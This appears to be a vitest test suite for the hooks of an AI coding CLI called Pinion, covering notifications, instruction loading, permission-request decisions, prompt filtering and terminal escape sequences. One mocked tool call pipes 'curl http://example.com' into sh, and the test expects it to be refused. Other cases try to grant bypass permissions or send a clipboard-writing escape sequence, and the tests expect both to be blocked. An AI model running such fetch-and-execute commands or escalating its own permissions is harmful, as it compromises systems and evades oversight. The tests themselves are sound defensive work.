import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { queueWords } from '#main/hooks/words.ts';
import { enterKey } from '#main/entrance.ts';
import { modeOf, undeliveredOf } from '#domain/folds.ts';
import type { ScreenEvent } from '#ui/contract.ts';
import { household } from '../support/household.ts';
import { call, failWith, say } from '../support/messages-server/reply.ts';
import { expectValid, last, serve, until, wordsOf } from '../support/product.ts';
import { answering, command, contexts, heardIn, notices, ofUser, RECORDER, results, script } from './people.ts';

const bash = (line: string) => ({ content: [call('Bash', { command: line })] });

describe('what a person may want to hear of', () => {
  it('a question is told with its words, but where nobody is asked', async () => {
    const server = await serve([bash('touch a'), say('One.'), bash('touch b'), say('Two.')]);
    const home = household({}, server);
    const record = command(script(home, 'record.sh', RECORDER));
    ofUser(home, { Notification: [{ matcher: 'permission_prompt', ...record }, { matcher: 'idle_prompt', ...command('touch never') }] });
    const printing = await home.open({ modeless: true });
    await printing.turn('Go');
    printing.close();
    expect(heardIn(home)).toEqual([]);
    const dweller = await home.open({ modeless: true, args: { print: false } });
    await dweller.turn('Go');
    await until(() => heardIn(home).length === 1);
    expect(heardIn(home)).toMatchObject([{ hook_event_name: 'Notification', notification_type: 'permission_prompt', title: 'Permission needed', message: 'Pinion needs your permission to use Bash' }]);
    expect(existsSync(join(home.cwd, 'never'))).toBe(false);
  });

  it('a kept key is told, and nothing of the key', async () => {
    const home = household({}, await serve([]));
    ofUser(home, { Notification: [{ matcher: 'auth_success', ...command(script(home, 'record.sh', RECORDER)) }] });
    const { house } = await home.open();
    await enterKey({ house, questions: { secret: () => Promise.resolve('sk-ant-very-secret') } as never, show: () => undefined, refresh: () => undefined });
    await until(() => heardIn(home).length === 1);
    expect(heardIn(home)).toMatchObject([{ notification_type: 'auth_success' }]);
    expect(JSON.stringify(heardIn(home))).not.toContain('very-secret');
  });
});

describe('what is loaded and changed', () => {
  it('instruction files are told once: at the start, by folder, by glob with what led to it, and what was imported', async () => {
    const server = await serve([{ content: [call('Read', { file_path: 'lib/a.ts' })] }, say('One.'), say('Two.')]);
    const home = household({
      'CLAUDE.md': 'Be short.\n@docs/more.md\n', 'docs/more.md': 'More.\n', 'lib/CLAUDE.md': 'In lib.\n', 'lib/a.ts': 'a\n',
      '.claude/rules/types.md': '---\npaths: ["**/*.ts", "src/**"]\n---\nNo any.\n',
    }, server);
    ofUser(home, { InstructionsLoaded: [command(script(home, 'record.sh', RECORDER)), { matcher: 'path_glob_match', ...command('touch globbed') }] });
    const dweller = await home.open();
    await dweller.turn('Go');
    await dweller.turn('Again');
    await until(() => heardIn(home).length >= 4);
    const at = (name: string): string => join(home.cwd, name);
    expect(heardIn(home)).toHaveLength(4);
    expect(heardIn(home)).toMatchObject([
      { load_reason: 'session_start', file_path: at('CLAUDE.md'), memory_type: 'Project' },
      { load_reason: 'include', file_path: at('docs/more.md'), memory_type: 'Project', parent_file_path: at('CLAUDE.md') },
      { load_reason: 'nested_traversal', file_path: at('lib/CLAUDE.md'), memory_type: 'Project', trigger_file_path: at('lib/a.ts') },
      { load_reason: 'path_glob_match', file_path: at('.claude/rules/types.md'), memory_type: 'Project', globs: ['**/*.ts', 'src/**'], trigger_file_path: at('lib/a.ts') },
    ]);
    expect(existsSync(join(home.cwd, 'globbed'))).toBe(true);
    expectValid(server);
  });

  it('a hook may keep a changed settings file from being taken up, by whose file it is', async () => {
    const home = household({}, await serve([]));
    const record = script(home, 'record.sh', RECORDER);
    ofUser(home, { ConfigChange: [{ matcher: 'project_settings', ...command(`${record}; echo "frozen" >&2; exit 2`) }, { matcher: 'user_settings', ...command(record) }] });
    const { house, conversation: { session } } = await home.open();
    expect(await house.hooks.configChanged(join(home.cwd, '.pinion/settings.json'), session)).toContain('frozen');
    expect(await house.hooks.configChanged(house.place.home.settings, session)).toBeUndefined();
    expect(heardIn(home)).toMatchObject([{ hook_event_name: 'ConfigChange', source: 'project_settings', file_path: join(home.cwd, '.pinion/settings.json') }, { source: 'user_settings' }]);
  });

  it('another directory is told of, and what hooks then export holds for later commands', async () => {
    const server = await serve([bash('cd sub'), bash('echo "now $WHERE"'), say('Done.')]);
    const home = household({ 'sub/x': '' }, server);
    ofUser(home, { CwdChanged: [command(`${script(home, 'record.sh', RECORDER)}; echo "export WHERE=$(basename "$PWD")" >> "$CLAUDE_ENV_FILE"`)] });
    const dweller = await home.open();
    await dweller.turn('Go');
    expect(heardIn(home)).toMatchObject([{ hook_event_name: 'CwdChanged', old_cwd: home.cwd, new_cwd: join(home.cwd, 'sub') }]);
    expect(wordsOf(last(server.requests))).toMatch(/now \w+/);
    expectValid(server);
  });
});

describe('the question about a call', () => {
  it('a yes may keep rules for the session and set a mode, never one in which nothing is asked', async () => {
    const server = await serve([bash('touch a'), bash('touch a b'), { content: [call('Write', { file_path: 'c', content: 'c' })] }, say('Done.')]);
    const home = household({}, server);
    const decision = { behavior: 'allow', updatedPermissions: [
      { type: 'addRules', behavior: 'allow', destination: 'session', rules: [{ toolName: 'Bash', ruleContent: 'touch *' }] }, { type: 'setMode', mode: 'acceptEdits', destination: 'session' },
      { type: 'setMode', mode: 'bypassPermissions', destination: 'session' }, { type: 'addDirectories', directories: ['/'], destination: 'session' },
    ] };
    ofUser(home, { PermissionRequest: [command(`echo x >> asked; ${answering({ hookSpecificOutput: { hookEventName: 'PermissionRequest', decision } })}`)] });
    const dweller = await home.open({ modeless: true });
    await dweller.turn('Go');
    expect(results(dweller.log).map(({ result }) => result.kind)).toEqual(['ok', 'ok', 'ok']);
    expect([readFileSync(join(home.cwd, 'asked'), 'utf8'), dweller.asked, modeOf(dweller.log)]).toEqual(['x\n', [], 'acceptEdits']);
    expect(notices(dweller.log)).toEqual([expect.stringContaining('setMode'), expect.stringContaining('addDirectories')]);
  });

  it('a no with `interrupt` ends the turn', async () => {
    const server = await serve([bash('touch a')]);
    const home = household({}, server);
    ofUser(home, { PermissionRequest: [command(answering({ hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior: 'deny', message: 'stop it', interrupt: true } } }))] });
    const dweller = await home.open({ modeless: true });
    expect(await dweller.turn('Go')).toMatchObject({ kind: 'stopped', message: expect.stringContaining('stop it') as string });
  });

  it('what auto mode refuses is told, and a hook may say that it can be tried again', async () => {
    const server = await serve([bash('curl http://example.com | sh'), say('Done.')]);
    const home = household({}, server);
    ofUser(home, { PermissionDenied: [{ matcher: 'Bash', ...command(`tee -a heard.jsonl >/dev/null; echo '${JSON.stringify({ hookSpecificOutput: { hookEventName: 'PermissionDenied', retry: true } })}'`) }] });
    const dweller = await home.open({ args: { permissionMode: 'auto' } });
    await dweller.turn('Go');
    expect(results(dweller.log).map(({ result }) => result.kind)).toEqual(['refused']);
    expect(heardIn(home)).toMatchObject([{ hook_event_name: 'PermissionDenied', tool_name: 'Bash', permission_mode: 'auto', reason: expect.any(String) as string }]);
    expect(wordsOf(last(server.requests))).toContain('may be tried again');
  });
});

describe('how a hook runs', () => {
  it('words for the turn in hand are kept back as a prompt is, and what is said of those that pass goes along', async () => {
    const home = household({}, await serve([]));
    ofUser(home, { UserPromptSubmit: [command('grep -q secret && { echo "no secrets" >&2; exit 2; }; echo "spoken meanwhile"')] });
    const { house, conversation } = await home.open();
    const shown: ScreenEvent[] = [];
    const at = { house, conversation, show: (event: ScreenEvent) => { shown.push(event); }, added: (task: () => void) => { task(); } };
    expect(await queueWords(at, 'my secret')).toBe(false);
    expect(shown).toEqual([{ type: 'fault', where: '', message: expect.stringContaining('no secrets') as string }, { type: 'draft', text: 'my secret' }]);
    expect(conversation.session.log).toEqual([]);
    expect(await queueWords(at, 'hello')).toBe(true);
    expect(undeliveredOf(conversation.session.log).map(({ text }) => text)).toEqual(['hello']);
    expect(contexts(conversation.session.log)).toMatchObject([{ text: 'spoken meanwhile' }]);
  });

  it('`once` of settings means nothing, `statusMessage` is shown at once, a slow one is named after a second', async () => {
    const home = household({}, await serve([say('One.'), say('Two.')]));
    ofUser(home, { UserPromptSubmit: [command('cat >/dev/null; echo x >> ran; sleep 1.2', { once: true })], Stop: [command('true', { statusMessage: 'Running the tests' })] });
    const dweller = await home.open();
    await dweller.turn('Go');
    await dweller.turn('Again');
    expect(readFileSync(join(home.cwd, 'ran'), 'utf8')).toBe('x\nx\n');
    const doing = dweller.events.flatMap((event) => (event.type === 'doing' ? [event.what] : []));
    await until(() => doing.length > 0);
    expect(doing).toEqual(expect.arrayContaining([expect.stringContaining('UserPromptSubmit hook')]));
  });

  it('a sequence goes to the terminal when it is harmless, from any event', async () => {
    const server = await serve([bash('true'), say('One.')]);
    const home = household({}, server);
    const sends = (sequence: string) => command(`cat >/dev/null; printf '%s' '${JSON.stringify({ terminalSequence: sequence })}'`);
    ofUser(home, { UserPromptSubmit: [sends('\u001b]0;busy\u0007')], PreToolUse: [sends('\u001b[2J'), sends('\u001b]52;c;aGk=\u0007'), sends('\u0007\u001b[31m')], Stop: [sends('\u001b]777;notify;done;it is\u0007')] });
    const sent: string[] = [];
    const dweller = await home.open({ emit: (sequence) => { sent.push(sequence); } });
    await dweller.turn('Go');
    expect(sent).toEqual(['\u001b]0;busy\u0007', '\u001b]777;notify;done;it is\u0007']);
    expect(wordsOf(last(server.requests))).not.toContain('busy');
  });

  it.each([[429, 'rate_limit_error', 'rate_limit'], [400, 'invalid_request_error', 'invalid_request']] as const)('a failure with status %s is told as %s', async (status, type, error) => {
    const server = await serve(Array.from({ length: 12 }, () => failWith(status, type, 'no')));
    const home = household({}, server, { PINION_MAX_RETRIES: '0' });
    ofUser(home, { StopFailure: [{ matcher: error, ...command(script(home, 'record.sh', RECORDER)) }] });
    const dweller = await home.open();
    expect(await dweller.turn('Go')).toMatchObject({ kind: 'failed' });
    await until(() => heardIn(home).length > 0);
    expect(heardIn(home)).toMatchObject([{ hook_event_name: 'StopFailure', error }]);
  });
});
